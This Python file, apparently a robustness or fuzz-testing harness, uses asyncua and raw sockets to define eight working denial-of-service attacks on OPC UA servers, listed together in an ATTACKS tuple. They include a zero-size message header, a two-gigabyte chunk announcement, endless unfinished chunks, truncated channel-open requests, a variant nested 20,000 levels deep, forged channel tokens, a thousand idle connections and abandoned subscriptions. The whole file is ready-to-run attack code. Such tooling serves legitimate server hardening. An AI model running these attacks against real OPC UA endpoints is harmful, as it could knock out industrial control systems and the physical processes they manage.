"""OPC UA over a bare socket: bytes as no client would send them. Layouts are those of OPC UA Part 6."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

from asyncua import Client, ua
from asyncua.common.connection import SecureConnection, TransportLimits
from asyncua.common.utils import Buffer
from asyncua.crypto.security_policies import SecurityPolicyNone
from asyncua.ua.ua_binary import (
    header_from_binary,
    struct_from_binary,
    struct_to_binary,
    uatcp_to_binary,
)

PATIENCE_S = 30.0


class Raw:
    """One connection, as far as somebody wants to take it."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.secure = SecureConnection(SecurityPolicyNone(), TransportLimits())

    @classmethod
    async def connect(cls, url: str, held: Held) -> Raw:
        place = urlsplit(url)
        raw = cls(*await asyncio.open_connection(place.hostname, place.port))
        held.append(raw)
        return raw

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def hello(self, url: str) -> None:
        await self.send(uatcp_to_binary(ua.MessageType.Hello, ua.Hello(EndpointUrl=url)))
        await self.message()

    async def channel(self, url: str) -> None:
        """A channel in the clear, which every server grants for looking at its endpoints."""
        await self.hello(url)
        request = ua.OpenSecureChannelRequest()
        request.Parameters.SecurityMode = ua.MessageSecurityMode.None_
        request.Parameters.RequestType = ua.SecurityTokenRequestType.Issue
        request.Parameters.RequestedLifetime = 60_000
        await self.send(self.binary(request, ua.MessageType.SecureOpen))
        body = Buffer(ua_body(self.secure, await self.message()))
        answer = struct_from_binary(ua.OpenSecureChannelResponse, body)
        issue = ua.SecurityTokenRequestType.Issue
        self.secure.set_channel(answer.Parameters, issue, b"")

    def binary(self, request: Any, kind: ua.MessageType = ua.MessageType.SecureMessage) -> bytes:
        return self.secure.message_to_binary(struct_to_binary(request), kind, 1)

    async def message(self) -> bytes:
        """The next whole message."""
        head = await self.reader.readexactly(8)
        (size,) = struct.unpack("<I", head[4:])
        return head + await self.reader.readexactly(size - 8)

    async def ended(self) -> None:
        """Wait until the server has hung up."""
        async with asyncio.timeout(PATIENCE_S):
            try:
                while await self.reader.read(65536):
                    pass
            except ConnectionError:
                return

    async def close(self) -> None:
        self.writer.transport.abort()
        with suppress(ConnectionError):
            await self.writer.wait_closed()


Held = list[Raw]


def ua_body(secure: SecureConnection, data: bytes) -> bytes:
    buffer = Buffer(data)
    message = secure.receive_from_header_and_body(header_from_binary(buffer), buffer)
    return b"".join(chunk.Body for chunk in message._chunks)


# --- the attacks: each leaves open what it can, and notes the sockets that are to be closed later ---


async def zero_size_header(url: str, held: Held) -> None:
    """A header that announces a message of no size at all, which once was an endless loop."""
    raw = await Raw.connect(url, held)
    await raw.send(b"HELF" + struct.pack("<I", 0) + bytes(64))
    await raw.ended()


async def oversized_chunk(url: str, held: Held) -> None:
    """A chunk of two gigabytes is announced, and begun."""
    raw = await Raw.connect(url, held)
    try:
        await raw.send(b"HELF" + struct.pack("<I", 2**31))
        for _ in range(200):
            await raw.send(bytes(2**20))
    except ConnectionError:
        return
    await raw.ended()


async def chunks_without_end(url: str, held: Held) -> None:
    """Intermediate chunks and never a final one: the server has to keep them all."""
    raw = await Raw.connect(url, held)
    await raw.channel(url)
    try:
        for number in range(2_000):
            head = struct.pack("<3scII", b"MSG", b"C", 60_024, raw.secure.security_token.ChannelId)
            token = struct.pack("<III", raw.secure.security_token.TokenId, 2 + number, 7)
            await raw.send(head + token + bytes(60_000))
    except ConnectionError:
        return
    await raw.ended()


async def truncated_open(url: str, held: Held) -> None:
    """A request for a channel, cut at every length, and sent as if it were whole."""
    request = ua.OpenSecureChannelRequest()
    request.Parameters.RequestedLifetime = 60_000
    secure = SecureConnection(SecurityPolicyNone(), TransportLimits())
    whole = secure.message_to_binary(struct_to_binary(request), ua.MessageType.SecureOpen, 1)
    for size in range(13, len(whole), 6):
        raw = await Raw.connect(url, held)
        await raw.hello(url)
        await raw.send(whole[:4] + struct.pack("<I", size) + whole[8:size])
        await raw.ended()


async def nested_variant(url: str, held: Held) -> None:
    """A variant in a variant in a variant, twenty thousand deep, to be written to a node."""
    depth = 20_000
    request = ua.WriteRequest()
    request.Parameters.NodesToWrite = [
        ua.WriteValue(ua.NodeId(2253), ua.AttributeIds.Value, None, ua.DataValue(ua.Variant(1)))
    ]
    plain = struct_to_binary(request.Parameters.NodesToWrite[0].Value)
    deep = b"\x01" + (b"\x98" + struct.pack("<i", 1)) * depth + b"\x01\x01"
    async with Client(url, timeout=PATIENCE_S) as client:
        protocol = client.uaclient.protocol
        assert protocol is not None
        protocol._setup_request_header(request.RequestHeader, PATIENCE_S)
        body = struct_to_binary(request)
        assert body.endswith(plain)
        protocol._request_id += 1
        answer = protocol._callbackmap[protocol._request_id] = asyncio.Future()
        whole = protocol._connection.message_to_binary(
            body.removesuffix(plain) + deep, request_id=protocol._request_id
        )
        assert protocol.transport is not None
        protocol.transport.write(whole)
        await asyncio.wait({answer}, timeout=PATIENCE_S)
        assert answer.done()
        answer.exception()  # refused in one way or another: looked at, so that nobody complains


async def wrong_token(url: str, held: Held) -> None:
    """Messages on channels that are not ours, with tokens that were never issued."""
    for channel, token in ((0, 0), (2**32 - 1, 13), (6, 2**32 - 1)):
        raw = await Raw.connect(url, held)
        await raw.channel(url)
        message = struct.pack("<3scII", b"MSG", b"F", 40, channel)
        await raw.send(message + struct.pack("<III", token, 2, 2) + bytes(16))
        await raw.ended()


async def a_thousand_idle_sockets(url: str, held: Held) -> None:
    """Connections that never say a word."""
    for _ in range(1_000):
        await Raw.connect(url, held)


async def subscriptions_left_behind(url: str, held: Held) -> None:
    """Sessions that are closed and ask to keep their subscriptions."""
    for _ in range(40):
        client = Client(url, timeout=PATIENCE_S)
        client.session_timeout = 30_000
        await client.connect()
        for _ in range(5):
            await client.create_subscription(1_000_000)
        await client.uaclient.close_session(False)
        client.disconnect_socket()


ATTACKS: tuple[Callable[[str, Held], Awaitable[None]], ...] = (
    zero_size_header,
    oversized_chunk,
    chunks_without_end,
    truncated_open,
    nested_variant,
    wrong_token,
    a_thousand_idle_sockets,
    subscriptions_left_behind,
)
